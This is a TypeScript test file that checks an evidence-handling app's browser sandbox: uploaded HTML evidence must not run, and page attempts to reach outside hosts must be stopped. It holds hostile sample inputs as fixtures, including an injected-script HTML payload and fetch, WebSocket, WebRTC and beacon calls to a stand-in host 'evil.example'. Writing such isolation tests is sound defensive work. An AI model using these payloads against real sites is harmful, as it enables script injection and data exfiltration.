import { execFileSync } from 'node:child_process'
import { readdirSync } from 'node:fs'
import { readdir } from 'node:fs/promises'
import { createServer } from 'node:net'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { familyOf, listeningSockets } from '../support/processes.ts'
import { ask } from './ask.ts'
import { type App, openApp } from './open-app.ts'

const passphrase = 'seven words nobody would guess on a Monday'

async function withCase(): Promise<App> {
  const app = await openApp()
  await ask(app.page, 'case.new', { path: join(app.dataFolder, 'Fox.case'), title: 'Fox', passphrase })
  return app
}

async function attach({ page }: App, name: string, content: string): Promise<string> {
  const { upload } = await ask(page, 'evidence.upload', { name, size: Buffer.byteLength(content) })
  await ask(page, 'evidence.chunk', { upload, base64: Buffer.from(content).toString('base64') })
  const { created } = await ask(page, 'evidence.uploaded', { job: 'attach', uploads: [upload], acquisition: {} })
  return created[0] ?? ''
}

test('the page is a secure context with our policy, and complains of nothing', async () => {
  const { page, complaints } = await openApp()
  await page.waitForSelector('button')
  expect(await page.evaluate('[isSecureContext, crossOriginIsolated, location.href]')).toEqual([
    true,
    false,
    'https://case.invalid/',
  ])
  expect(complaints).toEqual([])
})

test.runIf(process.platform === 'linux')('nobody listens on TCP', async () => {
  await openApp()
  expect(listeningSockets(process.pid)).toBe(0)
  const server = createServer().listen(0, '127.0.0.1')
  await new Promise(resolve => server.once('listening', resolve))
  expect(listeningSockets(process.pid)).toBe(1)
  server.close()
})

test('hostile evidence runs nothing: no frame takes it in, and it may do nothing where it is answered', async () => {
  const app = await withCase()
  const hostile = `<!doctype html><script>document.title='ran';parent.ran=true</script>
    <img src="https://evil.example/a.png" onerror="parent.ran=true"><link rel="dns-prefetch" href="//evil.example">
    <meta http-equiv="refresh" content="0;url=https://evil.example/"><iframe src="https://evil.example/"></iframe>`
  const id = await attach(app, 'mail.html', hostile)
  await app.page.evaluate(`new Promise(resolve => {
    const frame = document.createElement('iframe')
    frame.src = '/case/exhibit/${id}'
    frame.onload = () => setTimeout(resolve, 500)
    setTimeout(resolve, 2000)
    document.body.append(frame)
  })`)
  expect(app.page.frames().filter(each => each.url().includes('/case/exhibit/'))).toEqual([])
  expect(await app.page.evaluate('typeof ran')).toBe('undefined')
  const policy = await app.page.evaluate<string>(
    `fetch('/case/exhibit/${id}').then(answer => answer.headers.get('content-security-policy'))`,
  )
  for (const rule of ['sandbox', "default-src 'none'", "frame-ancestors 'none'"]) expect(policy).toContain(rule)
})

test('whatever a page tries, it reaches nobody', async () => {
  const { page } = await openApp()
  const tries = `Promise.all([
    fetch('https://evil.example/').then(() => 'reached', () => 'stopped'),
    fetch('http://127.0.0.1:80/').then(() => 'reached', () => 'stopped'),
    fetch('http://[::1]/', { mode: 'no-cors' }).then(() => 'reached', () => 'stopped'),
    new Promise(done => { const s = new WebSocket('wss://evil.example'); s.onopen = () => done('reached'); s.onerror = () => done('stopped') }),
    new Promise(done => { const i = new Image(); i.onload = () => done('reached'); i.onerror = () => done('stopped'); i.src = 'https://evil.example/x.png' }),
    new Promise(done => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:evil.example:3478' }, { urls: 'stun:192.0.2.7:3478' }] })
      peer.createDataChannel('out')
      let found = 0
      peer.onicecandidate = ({ candidate }) => { if (candidate) found++; else done(found === 0 ? 'stopped' : 'reached') }
      peer.createOffer().then(offer => peer.setLocalDescription(offer))
      setTimeout(() => done(found === 0 ? 'stopped' : 'reached'), 2000)
    }),
    navigator.serviceWorker.register('/index.html').then(worker => (worker ? 'reached' : 'stopped'), () => 'stopped'),
    Promise.resolve(navigator.sendBeacon('https://evil.example/', 'x')).then(() => 'stopped', () => 'stopped'),
  ])`
  expect(await page.evaluate<string[]>(tries)).toEqual(Array(8).fill('stopped'))
})

test.runIf(process.platform === 'linux')(
  'what was shown is in no file of the browser, and its folder goes with it',
  async () => {
    const canary = 'zebrafinch-4711-canary'
    const profiles = () => readdirSync('/dev/shm').filter(name => name.startsWith(`red-thread-window-${process.pid}-`))
    const app = await withCase()
    const id = await attach(app, `${canary}.txt`, canary.repeat(5000))
    await app.page.evaluate(
      `fetch('/case/exhibit/${id}').then(r => r.text()).then(text => { document.title = text.slice(0, 60); document.body.append(text) })`,
    )
    const [profile = ''] = profiles()
    expect(profiles()).toHaveLength(1)
    const hits = () => execFileSync('grep', ['-rlaF', canary, join('/dev/shm', profile)], { encoding: 'utf8' })
    expect(hits).toThrow()
    await app.close()
    expect(profiles()).toEqual([])
  },
)

test.runIf(process.platform === 'linux')(
  'a browser killed from outside ends in order, and lets the case go',
  async () => {
    const { page, dataFolder, close } = await openApp()
    await ask(page, 'case.sample', {})
    const locks = async () => (await readdir(dataFolder, { recursive: true })).filter(path => path.endsWith('lock'))
    expect(await locks()).toHaveLength(1)
    const gone = page.waitForEvent('close').catch(() => undefined)
    for (const member of familyOf(process.pid)) if (member !== process.pid) killQuietly(member)
    await gone
    await close()
    expect(await locks()).toEqual([])
  },
)

/** The helpers of a browser may end with it before their turn comes. */
function killQuietly(pid: number): void {
  try {
    process.kill(pid, 'SIGKILL')
  } catch {
    // It has gone already.
  }
}
